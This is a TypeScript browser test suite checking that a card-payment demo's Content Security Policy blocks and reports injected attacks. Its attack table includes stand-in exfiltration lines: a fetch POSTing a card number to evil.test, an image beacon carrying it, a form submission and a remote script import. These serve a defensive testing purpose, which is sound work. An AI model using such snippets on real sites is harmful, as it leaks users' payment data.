import { randomUUID } from 'node:crypto'
import { readFileSync } from 'node:fs'
import type { Browser, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import react from '@vitejs/plugin-react'
import { contentSecurityPolicy } from '../../demo/policy.mjs'
import * as en from '../../src/messages/en.ts'
import { launchChromium } from '../support/browser.mjs'
import { fillCardForm } from '../support/fillCardForm.ts'
import { answerFile, buildConfig, buildFiles, serveSite, type Pages } from '../support/site.ts'
import { startDemo } from '../support/startDemo.ts'
import { watchViolations } from '../support/violations.ts'

interface PolicedPage {
  url: string
  close: () => Promise<void>
}

let browser: Browser
beforeAll(async () => {
  browser = await launchChromium()
})
afterAll(() => browser?.close())

/** The demo as `npm start` serves it, and as a host would serve a build of it. */
describe.each<[string, () => Promise<PolicedPage>]>([
  ['in development', startDevelopment],
  ['built', startBuilt],
])('%s, the demo under its strict policy', (_, start) => {
  let site: PolicedPage
  let page: Page
  let violations: string[]
  beforeAll(async () => {
    site = await start()
  })
  afterAll(() => site?.close())
  beforeEach(async () => {
    page = await browser.newPage({ locale: 'en-US' })
    page.setDefaultTimeout(20_000)
    violations = await watchViolations(page)
    await page.goto(site.url)
  })
  afterEach(() => page?.close())

  test('saves a card, creates a secret, revokes one, and tries nothing that is forbidden', async () => {
    await fillCardForm(page)
    await page.getByRole('button', { name: en.card.submit, exact: true }).click()
    await page.getByRole('region', { name: 'Payment method' }).waitFor()

    await page.getByText(en.secrets.used(1, 2)).first().waitFor()
    await page.getByRole('button', { name: en.secrets.create, exact: true }).click()
    const creating = page.getByRole('dialog', { name: en.secrets.createTitle })
    await creating.getByLabel(en.secrets.saved).check()
    await creating.getByRole('button', { name: en.secrets.activate }).click()
    await page.getByText(en.secrets.used(2, 2)).first().waitFor()

    await page
      .getByRole('table', { name: en.secrets.title })
      .getByRole('button', { name: /^Revoke secret/ })
      .last()
      .click()
    const revoking = page.getByRole('dialog', { name: /^Revoke secret/ })
    const [, token = ''] = /Type (\w{4}) to confirm/.exec(await revoking.innerText()) ?? []
    await revoking.getByLabel(en.secrets.revokeConfirm(token)).fill(token)
    await revoking.getByRole('button', { name: en.secrets.revoke, exact: true }).click()
    await page.getByText(en.secrets.used(1, 2)).first().waitFor()
    expect(violations).toEqual([])
  })

  test.each<[string, string, string | (() => unknown)]>([
    [
      'a script of another host',
      'script-src-elem',
      // as text, since a bundler would rewrite it
      "import('http://evil.test/x.js').catch(() => {})",
    ],
    [
      'text that becomes markup',
      'require-trusted-types-for',
      () => (document.createElement('p').innerHTML = '<b>x</b>'),
    ],
    [
      'a policy that would bless text as script',
      'trusted-types',
      () => Reflect.get(window, 'trustedTypes').createPolicy('any', {}),
    ],
    [
      'a card that is sent elsewhere',
      'connect-src',
      () => fetch('http://evil.test/', { method: 'POST', body: '4242' }).catch(() => {}),
    ],
    [
      'a card in the address of an image',
      'img-src',
      () => (new Image().src = 'http://evil.test/?4242'),
    ],
    [
      'a style from nowhere',
      'style-src-elem',
      () => {
        const style = document.createElement('style')
        style.textContent = 'p {}'
        document.head.append(style)
      },
    ],
    [
      'a form that is sent elsewhere',
      'form-action',
      () => {
        const form = document.createElement('form')
        form.action = 'http://evil.test/'
        document.body.append(form)
        form.submit()
      },
    ],
    [
      'a frame',
      'frame-src',
      () => {
        const frame = document.createElement('iframe')
        frame.src = 'http://evil.test/'
        document.body.append(frame)
      },
    ],
  ])('refuses and reports %s', async (_what, directive, attack) => {
    await page.getByLabel(en.card.fields.number).waitFor()
    expect(violations).toEqual([])
    await page.evaluate(attack).catch(() => {})
    await expect.poll(() => violations.join('\n')).toContain(directive)
  })
})

async function startDevelopment(): Promise<PolicedPage> {
  const demo = await startDemo()
  return { url: `http://localhost:${demo.ports.PORT}`, close: demo.kill }
}

async function startBuilt(): Promise<PolicedPage> {
  return serveSite({ root: 'demo', mode: 'production', pages: policedPages })
}

const policedPages: Pages = async (options, tokenizationUrl) => {
  const config = buildConfig(options, tokenizationUrl)
  const files = await buildFiles({ ...config, plugins: [react()] })
  const policy = contentSecurityPolicy({ tokenizationUrl })
  return (request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://page')
    response.setHeader('Content-Security-Policy', policy)
    answerFile(response, files, pathname === '/' ? '/index.html' : pathname)
  }
}

test('a nonce is for a development server only: what a host needs names none', () => {
  const tokenizationUrl = 'https://vault.test/api/payment-methods'
  expect(contentSecurityPolicy({ tokenizationUrl })).not.toContain('nonce')
  const nonce = randomUUID()
  expect(contentSecurityPolicy({ tokenizationUrl, nonce })).toContain(`'nonce-${nonce}'`)
})

test('the documentation names the very policy that is tested', () => {
  const page = readFileSync('docs/security.md', 'utf8')
  const [, lines = ''] = /Content-Security-Policy:\n([^`]+)```/.exec(page) ?? []
  const written = lines.trim().replaceAll(/;\s+/g, '; ')
  const tokenizationUrl = 'https://connect.plastiq.com/api/payment-methods'
  expect(written).toBe(contentSecurityPolicy({ tokenizationUrl }))
})
